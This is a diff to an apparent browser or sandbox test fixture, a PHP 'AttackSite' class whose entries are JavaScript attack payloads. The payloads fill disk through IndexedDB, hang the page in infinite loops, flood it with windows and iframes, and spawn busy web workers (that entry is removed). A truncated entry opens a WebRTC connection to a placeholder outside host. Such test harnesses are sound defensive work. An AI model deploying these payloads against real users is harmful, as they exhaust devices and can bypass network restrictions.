@@ -19,7 +19,6 @@ final class AttackSite implements Site
         'disk' => 'const open = indexedDB.open("fill"); open.onupgradeneeded = () => open.result.createObjectStore("s", { autoIncrement: true }); open.onsuccess = () => { const more = () => { const bytes = new Uint8Array(8 << 20); for (let at = 0; at < bytes.length; at += 65536) crypto.getRandomValues(bytes.subarray(at, at + 65536)); const put = open.result.transaction("s", "readwrite").objectStore("s").add(bytes); put.onsuccess = more; }; more(); };',
         'spin' => 'setTimeout(() => { for (;;); }, 100);',
         'windows' => 'setInterval(() => { for (let n = 0; n < 20; ++n) { window.open("/plain?" + Math.random()); const f = document.createElement("iframe"); f.src = "/plain?" + Math.random(); document.body.append(f); } }, 10);',
-        'workers' => 'for (let n = 0; n < 300; ++n) new Worker(URL.createObjectURL(new Blob(["for (;;);"])));',
         'out' => <<<'JS'
             const to = 'PLACE:PORT';
             const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + to }, { urls: 'turn:' + to + '?transport=tcp', username: 'a', credential: 'b' }] });
